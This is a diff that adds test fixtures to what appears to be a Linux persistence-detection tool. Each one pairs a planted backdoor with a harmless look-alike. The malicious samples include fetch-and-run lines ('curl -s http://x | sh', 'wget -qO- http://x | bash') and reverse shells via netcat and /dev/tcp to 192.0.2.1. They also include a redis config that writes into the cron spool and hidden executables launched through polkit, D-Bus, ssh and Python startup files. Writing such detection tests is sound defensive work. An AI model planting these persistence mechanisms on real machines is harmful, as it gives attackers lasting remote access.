@@ -17,6 +17,62 @@ KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH0kx0m0ZlG0s3uXJ9yC0rYc2rZr4Y1b5m8dP
 
 Plant = Callable[[Machine], object]
 TRACES: dict[str, tuple[str, Plant, Plant]] = {
+    "a rotation of logs that fetches and runs": (
+        "log-rotation",
+        lambda it: it.file("/etc/logrotate.d/x", "/var/log/x {\n postrotate\n  curl -s http://x | sh\n endscript\n}\n"),
+        lambda it: it.file("/etc/logrotate.d/x", "/tmp/.x/log {\n postrotate\n  /usr/bin/true x\n endscript\n}\n"),
+    ),
+    "a service of D-Bus out of a folder of anybody's": (
+        "bus-service",
+        lambda it: it.file(
+            "/usr/share/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/dev/shm/x\nUser=root\n"
+        ),
+        lambda it: it.file("/usr/share/dbus-1/system-services/x.service", "[D-BUS Service]\nExec=/opt/x/x\nUser=x\n"),
+    ),
+    "a rule of polkit that runs something hidden": (
+        "polkit",
+        lambda it: it.file("/etc/polkit-1/rules.d/49.rules", 'polkit.spawn(["/var/tmp/.x", "y"]); // "polkit"\n'),
+        lambda it: it.file("/etc/polkit-1/rules.d/49.rules", 'polkit.spawn(["/usr/bin/true", "/tmp/x"]);\n'),
+    ),
+    "an action of fail2ban that opens a way in": (
+        "ban-action",
+        lambda it: it.file("/etc/fail2ban/action.d/x.conf", "[Definition]\nactionban = nc 192.0.2.1 9 -e /bin/sh\n"),
+        lambda it: it.file("/etc/fail2ban/action.d/x.conf", "[Definition]\nactionban = nft add element x <ip>\n"),
+    ),
+    "cloud-init that fetches and runs": (
+        "cloud-start",
+        lambda it: it.file("/etc/cloud/cloud.cfg.d/99.cfg", "bootcmd:\n  - wget -qO- http://x | bash\n"),
+        lambda it: it.file("/etc/cloud/cloud.cfg.d/99.cfg", "bootcmd:\n  - echo curl\n  - [ /usr/bin/true ]\n"),
+    ),
+    "a connection by a program of anybody's": (
+        "ssh-client",
+        lambda it: it.file("/home/ann/.ssh/config", "Host *\n  ProxyCommand /tmp/.p %h %p\n"),
+        lambda it: it.file("/home/ann/.ssh/config", "Host *\n  ProxyCommand ssh -W %h:%p jump\n"),
+    ),
+    "a database that hands out what it archives": (
+        "service-settings",
+        lambda it: it.file(
+            "/etc/postgresql/15/main/postgresql.conf", "archive_command = 'sh -i >& /dev/tcp/192.0.2.1/9'\n"
+        ),
+        lambda it: it.file("/etc/postgresql/15/main/postgresql.conf", "archive_command = 'cp %p /srv/wal/%f'\n"),
+    ),
+    "a cache that writes timed jobs": (
+        "service-settings",
+        lambda it: it.file("/etc/redis/redis.conf", "dir /var/spool/cron/crontabs\ndbfilename root\n"),
+        lambda it: it.file("/etc/redis/redis.conf", "dir /var/lib/redis\nloadmodule /usr/lib/redis/modules/x.so\n"),
+    ),
+    "a module of the name service": (
+        "nss-module",
+        lambda it: it.file("/usr/lib/x86_64-linux-gnu/libnss_x.so.2", "\x7fELF"),
+        lambda it: it.package("libnss-y", {"/usr/lib/x86_64-linux-gnu/libnss_y.so.2": "\x7fELF"}),
+    ),
+    "a start file of a person's Python": (
+        "python-start",
+        lambda it: it.file(
+            "/home/ann/.local/lib/python3.11/site-packages/usercustomize.py", "import os; os.system('/tmp/x')\n"
+        ),
+        lambda it: it.file("/home/ann/.local/lib/python3.11/site-packages/x.pth", "/home/ann/src\n"),
+    ),
     "a timed job that fetches and runs": (
         "cron",
         lambda it: it.file("/etc/cron.d/upd", "*/5 * * * * root curl -s http://x|sh\n"),
